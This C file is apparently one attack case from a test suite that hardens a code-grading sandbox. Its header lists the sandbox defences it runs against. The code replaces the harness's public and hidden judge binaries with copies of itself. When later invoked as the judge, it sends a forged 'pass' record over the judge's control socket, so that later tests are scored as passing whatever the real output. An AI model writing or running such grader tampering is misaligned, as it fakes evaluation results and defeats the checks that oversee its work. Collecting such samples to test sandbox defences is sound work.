/*+++
number = "20"
title = "puts itself in the judge's place: the next tests are judged by it"
file = "up.c"
succeeds = "marks"
score = 40
findings = ["wrong_output"]
[[defence]]
name = "unprivileged"
sandboxes = ["docker"]
[[defence]]
name = "read-only /work"
off = ["namespaces"]
also = ["unprivileged"]
sandboxes = ["local"]
[[defence]]
name = "unprivileged"
also = ["namespaces"]
sandboxes = ["local"]
+++*/
#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define CONTROL 3 /* where a judge has its socket */

/* As the judge: the record, at once. */
static int judge(void)
{
    struct {
        uint32_t op, seq;
        int32_t proc, error;
        int64_t arg, arg2, deadline;
        uint32_t length, reserved;
        char text[32];
    } record = {.op = 13, .seq = 1, .proc = -1, .text = "{\"status\":\"pass\"}"};
    record.length = (uint32_t)strlen(record.text);
    send(CONTROL, &record, sizeof record - sizeof record.text + record.length, 0);
    recv(CONTROL, &record, sizeof record, 0);
    return 0;
}

static void copy(const char *from, const char *to)
{
    static char buffer[65536];
    ssize_t n;
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT, 0755);
    while ((n = read(in, buffer, sizeof buffer)) > 0)
        if (write(out, buffer, (size_t)n) != n)
            break;
    close(in);
    close(out);
}

int main(int argc, char **argv)
{
    static const char *const judges[] = {"judge-public-test_vault", "judge-hidden-test_secret"};
    static char self[PATH_MAX], folder[2 * PATH_MAX], file[3 * PATH_MAX];
    if (argc && strcmp(argv[0], "judge") == 0)
        return judge();
    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
        return 1;
    char *end = strstr(self, "/bin/");
    snprintf(folder, sizeof folder, "%.*s/judge", end ? (int)(end - self) : 0, self);
    snprintf(file, sizeof file, "%s.old", folder);
    if (rename(folder, file) < 0 || mkdir(folder, 0755) < 0) {
        perror(folder);
        return 1;
    }
    for (size_t i = 0; i < sizeof judges / sizeof *judges; i++) {
        snprintf(file, sizeof file, "%s/%s", folder, judges[i]);
        copy(self, file);
    }
    return 0;
}
